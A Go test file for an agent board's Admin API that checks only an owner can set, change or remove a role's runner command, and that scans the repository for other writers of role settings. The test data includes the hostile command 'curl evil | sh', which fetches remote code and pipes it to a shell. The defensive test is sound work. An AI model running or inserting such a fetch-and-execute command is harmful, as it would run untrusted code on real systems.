package people_test

import (
	"encoding/json"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// roleSettingsWriters are the Admin API operations whose body carries a
// role's settings, and how this test calls each with a settings object.
// The population is derived from docs/openapi.json (the whole board's
// Admin API, kept current by cmd/pact-board's TestOpenAPIDocumentIsCommitted):
// an operation that takes settings and is missing here fails the test.
var roleSettingsWriters = map[string]func(role, settings string) (method, path, body string){
	"people-save-role": func(role, settings string) (string, string, string) {
		return "PUT", "/roles/" + role, `{"name": "Runner", "client": "runner", "actions": ["task.work"], "settings": ` + settings + `}`
	},
}

// settingsOperations lists the operation ids of docs/openapi.json whose
// JSON request body has a "settings" property.
func settingsOperations(t *testing.T) []string {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join("..", "..", "docs", "openapi.json"))
	require.NoError(t, err)
	var doc struct {
		Paths map[string]map[string]struct {
			OperationID string `json:"operationId"`
			RequestBody *struct {
				Content map[string]struct {
					Schema struct {
						Ref string `json:"$ref"`
					} `json:"schema"`
				} `json:"content"`
			} `json:"requestBody"`
		} `json:"paths"`
		Components struct {
			Schemas map[string]struct {
				Properties map[string]json.RawMessage `json:"properties"`
			} `json:"schemas"`
		} `json:"components"`
	}
	require.NoError(t, json.Unmarshal(raw, &doc))
	var out []string
	for _, ops := range doc.Paths {
		for _, op := range ops {
			if op.RequestBody == nil {
				continue
			}
			ref := op.RequestBody.Content["application/json"].Schema.Ref
			schema := doc.Components.Schemas[strings.TrimPrefix(ref, "#/components/schemas/")]
			if _, ok := schema.Properties["settings"]; ok {
				out = append(out, op.OperationID)
			}
		}
	}
	sort.Strings(out)
	return out
}

// SEC-023: only an owner adds, changes or removes a role's
// PACT_RUNNER_COMMAND, through every Admin API operation that writes role
// settings. An approver's save that would is refused forbidden, saying an
// owner must, and changes nothing but the log entry of the refusal; an
// approver's save that leaves the command as it is passes.
func TestOnlyAnOwnerSetsTheRunnerCommand(t *testing.T) {
	b := newBoard(t)
	ops := settingsOperations(t)
	require.NotEmpty(t, ops, "docs/openapi.json has an operation that saves a role's settings")
	for _, id := range ops {
		call, ok := roleSettingsWriters[id]
		require.True(t, ok, "operation %s writes settings: add it to roleSettingsWriters, and have it refuse an approver's PACT_RUNNER_COMMAND", id)
		t.Run(id, func(t *testing.T) {
			role := "cmd-" + strings.TrimPrefix(id, "people-")
			save := func(as, settings string) (int, map[string]any) {
				method, path, body := call(role, settings)
				got := b.Admin(as, method, path, body)
				return got.Status, got.Body
			}
			stored := func() string {
				var s []string
				require.NoError(t, b.DB.NewRaw(`SELECT coalesce(settings->>'PACT_RUNNER_COMMAND', '<none>') FROM agent_roles
					WHERE id = ? AND org_id = (SELECT org_id FROM humans WHERE id = 'ana')`, role).Scan(t.Context(), &s))
				if len(s) == 0 {
					return "<no role>"
				}
				return s[0]
			}
			refusals := func() int {
				return b.Count(`SELECT count(*) FROM entries WHERE action = 'admin.role.save' AND outcome = 'forbidden'`)
			}
			refused := func(settings, verb, before string) {
				t.Helper()
				n := refusals()
				status, body := save("val", settings)
				require.Equal(t, http.StatusForbidden, status, body)
				require.Equal(t, "forbidden", body["error"])
				require.Contains(t, body["message"], "only an owner may set, change or remove PACT_RUNNER_COMMAND")
				require.Contains(t, body["message"], "val is approver and may not "+verb+" it: ask an owner to save it")
				require.Equal(t, before, stored(), "a refused save changes nothing")
				require.Equal(t, n+1, refusals(), "the refusal is logged")
			}
			// An approver may neither set it on a new role nor add it.
			refused(`{"PACT_RUNNER_COMMAND": "curl evil | sh"}`, "set", "<no role>")
			status, body := save("val", `{"PACT_RUNNER_MAX_TURNS": "5"}`)
			require.Equal(t, http.StatusOK, status, body)
			refused(`{"PACT_RUNNER_MAX_TURNS": "5", "PACT_RUNNER_COMMAND": "curl evil | sh"}`, "set", "<none>")

			// An owner sets it; an approver's save that keeps it passes.
			status, body = save("ana", `{"PACT_RUNNER_MAX_TURNS": "5", "PACT_RUNNER_COMMAND": "make fix-task"}`)
			require.Equal(t, http.StatusOK, status, body)
			status, body = save("val", `{"PACT_RUNNER_MAX_TURNS": "6", "PACT_RUNNER_COMMAND": "make fix-task"}`)
			require.Equal(t, http.StatusOK, status, body)
			require.Equal(t, "make fix-task", stored())

			// An approver may neither change it nor remove it.
			refused(`{"PACT_RUNNER_MAX_TURNS": "6", "PACT_RUNNER_COMMAND": "curl evil | sh"}`, "change", "make fix-task")
			refused(`{"PACT_RUNNER_MAX_TURNS": "6", "PACT_RUNNER_COMMAND": ""}`, "change", "make fix-task")
			refused(`{"PACT_RUNNER_MAX_TURNS": "6"}`, "remove", "make fix-task")

			// An owner changes and removes it.
			status, body = save("ana", `{"PACT_RUNNER_COMMAND": "make other"}`)
			require.Equal(t, http.StatusOK, status, body)
			require.Equal(t, "make other", stored())
			status, body = save("ana", `{}`)
			require.Equal(t, http.StatusOK, status, body)
			require.Equal(t, "<none>", stored())
		})
	}
}

// SEC-023: the other paths that write role settings set no command. The
// templates every organization's roles are seeded from (sign-up copies
// them) hold no PACT_RUNNER_COMMAND, nor does any seeded role, and the
// only code that writes agent_roles is the people module's store: SaveRole's
// and ArchiveRole's statements (store_roles.go, the save gated above), with
// the resealing of secret settings, which leaves other settings as they
// are, and sign-up's copy of the templates (store_signup.go). A new writer
// anywhere in the repository (a pact-admin command, another module) fails
// this test until it is checked and listed.
func TestNoOtherPathSetsTheRunnerCommand(t *testing.T) {
	b := newBoard(t)
	require.Zero(t, b.Count(`SELECT count(*) FROM role_templates WHERE settings->>'PACT_RUNNER_COMMAND' IS NOT NULL`))
	require.Zero(t, b.Count(`SELECT count(*) FROM agent_roles WHERE settings->>'PACT_RUNNER_COMMAND' IS NOT NULL`),
		"no seeded role of either organization (acme was made as sign-up makes one) has a command")

	writes := regexp.MustCompile(`(?is)\b(INSERT\s+INTO|UPDATE)\s+agent_roles\b`)
	root := filepath.Join("..", "..")
	var found []string
	require.NoError(t, filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == ".git" || d.Name() == "node_modules" || d.Name() == "testdata") {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		src, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if writes.Match(src) {
			rel, _ := filepath.Rel(root, path)
			found = append(found, filepath.ToSlash(rel))
		}
		return nil
	}))
	sort.Strings(found)
	require.Equal(t, []string{"modules/people/store_roles.go", "modules/people/store_signup.go"}, found,
		"a new writer of agent_roles: make sure it cannot set PACT_RUNNER_COMMAND but as an owner, then list it here")
}
